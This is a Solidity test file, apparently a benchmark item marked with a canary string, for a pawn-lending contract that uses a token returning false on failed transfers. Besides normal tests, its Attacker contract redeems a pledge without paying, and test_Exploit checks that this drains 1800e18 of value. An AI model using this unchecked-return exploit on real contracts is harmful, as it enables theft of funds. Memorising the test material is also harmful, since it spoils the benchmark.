// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./BrocantePledgeDesk.sol";

// assay-canary-84a09c0f-7320-4973-b6b6-abb5cf8818d7

interface Vm {
    function warp(uint256 time) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
}

/// Answers false where others revert, as the standard allows.
contract QuietToken {
    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        return _move(msg.sender, to, amount);
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (allowance[from][msg.sender] < amount || balanceOf[from] < amount) return false;
        allowance[from][msg.sender] -= amount;
        return _move(from, to, amount);
    }

    function _move(address from, address to, uint256 amount) private returns (bool) {
        if (balanceOf[from] < amount) return false;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Customer {
    BrocantePledgeDesk internal desk;
    QuietToken internal coin;
    QuietToken internal clock;

    constructor(BrocantePledgeDesk desk_, QuietToken coin_, QuietToken clock_) {
        (desk, coin, clock) = (desk_, coin_, clock_);
    }

    function open(uint128 amount) public returns (uint256) {
        clock.approve(address(desk), amount);
        return desk.open(IERC20(address(clock)), amount);
    }

    function redeem(uint256 id) public {
        coin.approve(address(desk), desk.dueOf(id));
        desk.redeem(id);
    }

    function buy(uint256 id) public {
        coin.approve(address(desk), type(uint256).max);
        desk.buy(id);
    }
}

/// Redeems without an approval.
contract Attacker is Customer {
    constructor(BrocantePledgeDesk desk_, QuietToken coin_, QuietToken clock_) Customer(desk_, coin_, clock_) {}

    function run() external {
        desk.redeem(open(300e18));
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    uint256 private constant MARKET_PRICE = 10; // coin for a clock

    QuietToken private coin;
    QuietToken private clock;
    BrocantePledgeDesk private desk;
    Customer private lotte;
    Customer private marek;
    Attacker private crook;

    function setUp() public {
        vm.warp(1_700_000_000);
        coin = new QuietToken();
        clock = new QuietToken();
        desk = new BrocantePledgeDesk(IERC20(address(coin)));
        desk.setRate(IERC20(address(clock)), 6e18);
        coin.mint(address(this), 3000e18);
        coin.approve(address(desk), 3000e18);
        require(desk.fund(3000e18), "till filled");
        lotte = new Customer(desk, coin, clock);
        marek = new Customer(desk, coin, clock);
        crook = new Attacker(desk, coin, clock);
        clock.mint(address(lotte), 150e18);
        coin.mint(address(lotte), 50e18);
        coin.mint(address(marek), 1000e18);
        clock.mint(address(crook), 300e18);
        coin.mint(address(crook), 10e18);
    }

    function test_Regular() public {
        uint256 id = lotte.open(100e18);
        require(coin.balanceOf(address(lotte)) == 650e18 && clock.balanceOf(address(desk)) == 100e18, "advance");
        require(!_try(marek, abi.encodeCall(Customer.redeem, (id))), "not his");
        require(!_try(marek, abi.encodeCall(Customer.buy, (id))), "in its term");
        require(!_try(marek, abi.encodeCall(Customer.open, (1e18))), "nothing to pledge");
        vm.warp(block.timestamp + 4 days + 1 hours);
        lotte.redeem(id);
        require(coin.balanceOf(address(lotte)) == 47e18, "five days of interest");
        require(clock.balanceOf(address(lotte)) == 150e18, "clocks back");
        require(!_try(lotte, abi.encodeCall(Customer.redeem, (id))), "redeemed twice");

        id = lotte.open(100e18);
        vm.warp(block.timestamp + 45 days + 1);
        require(!_try(lotte, abi.encodeCall(Customer.redeem, (id))), "term over");
        marek.buy(id);
        require(coin.balanceOf(address(marek)) == 1000e18 - 658.98e18, "due and a twentieth");
        require(clock.balanceOf(address(marek)) == 100e18, "bought");
        require(!desk.fund(1e18), "no approval left");
        desk.defund(3000e18);
        require(coin.balanceOf(address(this)) == 3000e18, "keeper has it back");
    }

    function _try(Customer who, bytes memory data) private returns (bool ok) {
        (ok, ) = address(who).call(data);
    }

    // What the keeper has at the desk: coin, and clocks at their market price.
    function worth() public view returns (uint256) {
        return coin.balanceOf(address(desk)) + clock.balanceOf(address(desk)) * MARKET_PRICE;
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Rates and the till are the keeper's.
    function test_RefusesStrangers() public {
        refuses(address(lotte), BrocantePledgeDesk.KeeperOnly.selector);
        desk.setRate(IERC20(address(clock)), 1);
        refuses(address(lotte), BrocantePledgeDesk.KeeperOnly.selector);
        desk.fund(1);
        refuses(address(lotte), BrocantePledgeDesk.KeeperOnly.selector);
        desk.defund(1);
        vm.expectRevert(abi.encodeWithSelector(BrocantePledgeDesk.NotTaken.selector, coin));
        desk.setRate(IERC20(address(coin)), 1);
        vm.expectRevert(abi.encodeWithSelector(BrocantePledgeDesk.NotMoved.selector, coin));
        desk.defund(4000e18);
    }

    /// Pledges of nothing, of other things, and those that are gone.
    function test_RefusesPledges() public {
        vm.expectRevert(abi.encodeWithSelector(BrocantePledgeDesk.NotTaken.selector, address(this)));
        desk.open(IERC20(address(this)), 1);
        vm.expectRevert(BrocantePledgeDesk.NothingPledged.selector);
        desk.open(IERC20(address(clock)), 0);
        vm.expectRevert(BrocantePledgeDesk.NothingPledged.selector);
        desk.open(IERC20(address(clock)), type(uint128).max);
        uint256 id = lotte.open(100e18);
        coin.mint(address(lotte), 1000e18);
        lotte.redeem(id);
        coin.mint(address(lotte), 1000e18);
        refuses(address(lotte), abi.encodeWithSelector(BrocantePledgeDesk.NotHeld.selector, id));
        desk.redeem(id);
        vm.warp(block.timestamp + 46 days);
        refuses(address(marek), abi.encodeWithSelector(BrocantePledgeDesk.NotHeld.selector, id));
        desk.buy(id);
        id = lotte.open(100e18);
        uint256 all = coin.balanceOf(address(lotte));
        vm.prank(address(lotte));
        coin.transfer(address(marek), all);
        refuses(address(lotte), abi.encodeWithSelector(BrocantePledgeDesk.NotEnoughCoin.selector, 600.6e18));
        desk.redeem(id);
    }

    function exploit() public {
        crook.run();
    }

    function test_Exploit() public {
        uint256 before = worth();
        exploit();
        require(before - worth() == 1800e18, "nothing lost");
        require(clock.balanceOf(address(crook)) == 300e18, "clocks back");
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(crook);
    }
}
